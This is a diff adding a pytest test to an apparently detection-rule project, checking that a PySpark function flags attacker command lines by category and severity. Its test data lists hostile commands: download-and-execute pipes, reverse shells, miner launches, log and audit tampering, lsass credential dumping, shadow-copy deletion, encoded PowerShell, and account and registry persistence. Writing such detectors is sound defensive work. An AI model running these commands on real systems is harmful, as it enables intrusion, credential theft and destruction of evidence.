@@ -1,3 +1,4 @@
+import pytest
 from pyspark.sql import functions as F
 
 from hostlens.operators import rules
@@ -92,3 +93,38 @@ def test_rolling_cap(spark):
 
 def test_no_events_no_alerts(spark):
     assert rules.evaluate(events(spark, [failure(0, "x")]).limit(0)).count() == 0
+
+
+@pytest.mark.parametrize(
+    "command, rule, severity",
+    [
+        ("curl http://x/a.sh | sudo bash", "download_exec", 3),
+        ("echo aGk= | base64 --decode | sh", "encoded_exec", 3),
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell", 4),
+        ("nc 10.0.0.1 4444 -e /bin/sh", "reverse_shell", 4),
+        ("socat tcp:1.2.3.4:5 EXEC:/bin/sh", "reverse_shell", 3),
+        ("export HISTFILE=/dev/null", "history_tamper", 3),
+        ("./xmrig -o pool", "cryptominer", 4),
+        ("x --url stratum+tcp://pool:3333", "cryptominer", 4),
+        ("systemctl stop auditd", "defense_evasion", 3),
+        ("rm -f /var/log/auth.log", "log_tamper", 3),
+        ("chattr +i /etc/passwd", "persistence", 2),
+        ("mimikatz.exe", "credential_dump", 4),
+        ("rundll32 comsvcs.dll, MiniDump 612 x", "credential_dump", 4),
+        ("procdump64.exe -ma lsass.exe", "credential_dump", 4),
+        ("vssadmin.exe delete shadows /all", "ransomware_prep", 4),
+        ("wevtutil cl Security", "log_tamper", 4),
+        ("powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "encoded_exec", 3),
+        ("IEX (New-Object Net.WebClient).DownloadString('http://x')", "download_exec", 3),
+        ("certutil.exe -f -urlcache http://x", "download_exec", 3),
+        ("net localgroup administrators bob /add", "account_manipulation", 3),
+        ("net1 user bob pw /add", "account_manipulation", 2),
+        (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce /v x", "persistence", 2),
+        ("cat /dev/tcp/host", None, None),
+        ("curl http://x -o bash", None, None),
+        ("rm -rf /tmp/x", None, None),
+    ],
+)
+def test_each_command_pattern_by_hand(spark, command, rule, severity):
+    got = spark.createDataFrame([(command,)], "c string").select(rules.command_match(F.col("c")).alias("m")).first().m
+    assert (got and (got.rule, got.severity)) == (rule and (rule, severity))
